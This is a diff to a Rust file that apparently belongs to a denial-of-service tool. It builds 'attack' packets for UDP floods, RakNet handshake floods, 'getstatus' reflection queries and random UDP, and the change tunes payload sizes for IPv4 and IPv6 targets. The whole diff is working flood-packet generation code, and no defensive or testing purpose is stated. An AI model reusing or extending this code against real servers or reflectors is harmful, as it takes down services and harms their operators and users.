@@ -10,8 +10,10 @@ use super::reflection::REFLECTORS;
 
 /// RakNet's offline message id.
 const MAGIC: [u8; 16] = *b"\x00\xff\xff\x00\xfe\xfe\xfe\xfe\xfd\xfd\xfd\xfd\x12\x34\x56\x78";
-/// The largest payload that any vector makes.
+/// The largest payload that any vector makes: a RakNet opening at an MTU of 1,492.
 const PAYLOAD_BYTES_MAX: usize = 1_464;
+/// The same with the longer header of IPv6.
+const PAYLOAD_BYTES_MAX_V6: usize = 1_444;
 
 /// Writes packet number `number` of an attack into a buffer.
 pub(crate) fn write(attack: &Attack, number: u64, random: &mut Random, buffer: &mut Vec<u8>) {
@@ -55,7 +57,8 @@ pub(crate) fn write(attack: &Attack, number: u64, random: &mut Random, buffer: &
             packet.transport = Transport::Udp(&payload[..bytes]);
         }
         vector => {
-            let bytes = datagram(vector, random, &mut payload);
+            let most = if attack.target.is_ipv4() { PAYLOAD_BYTES_MAX } else { PAYLOAD_BYTES_MAX_V6 };
+            let bytes = datagram(vector, most, random, &mut payload);
             packet.transport = Transport::Udp(&payload[..bytes]);
         }
     }
@@ -86,8 +89,8 @@ fn segment<'a>(vector: Vector, random: &mut Random, bytes: &'a mut [u8], packet:
     };
 }
 
-/// Payloads of UDP floods; returns how long the payload is.
-fn datagram(vector: Vector, random: &mut Random, payload: &mut [u8]) -> usize {
+/// Payloads of UDP floods, at most `most` bytes; returns how long the payload is.
+fn datagram(vector: Vector, most: usize, random: &mut Random, payload: &mut [u8]) -> usize {
     let mut end = 0;
     let mut put = |bytes: &[u8]| {
         payload[end..end + bytes.len()].copy_from_slice(bytes);
@@ -105,7 +108,7 @@ fn datagram(vector: Vector, random: &mut Random, payload: &mut [u8]) -> usize {
             put(&MAGIC);
             put(&[11]);
             // Already zero: the padding that tells the server the MTU.
-            end = [1_464, 1_172, 548][random.below(3) as usize];
+            end = [most, 1_172, 548][random.below(3) as usize];
         }
         Vector::RakNetOpen2 => {
             put(&[7]);
@@ -121,8 +124,8 @@ fn datagram(vector: Vector, random: &mut Random, payload: &mut [u8]) -> usize {
             put(&[0]);
         }
         Vector::GetStatus => put(b"\xff\xff\xff\xffgetstatus\0"),
-        Vector::RandomUdp(most) => {
-            end = 1 + random.below(u64::from(most).clamp(1, PAYLOAD_BYTES_MAX as u64)) as usize;
+        Vector::RandomUdp(bytes) => {
+            end = 1 + random.below((bytes as u64).clamp(1, most as u64)) as usize;
             random.fill(&mut payload[..end]);
         }
         _ => {}
